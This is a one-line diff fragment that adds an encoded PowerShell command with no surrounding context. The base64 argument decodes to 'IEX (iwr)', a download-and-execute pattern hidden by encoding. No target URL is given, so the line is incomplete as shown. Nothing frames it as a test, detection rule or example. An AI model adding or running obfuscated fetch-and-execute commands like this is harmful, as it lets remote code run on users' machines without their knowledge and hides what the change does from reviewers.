@@ -1,0 +1,1 @@
+powershell -NoProfile -enc SQBFAFgAIAAoAGkAdwByACkA
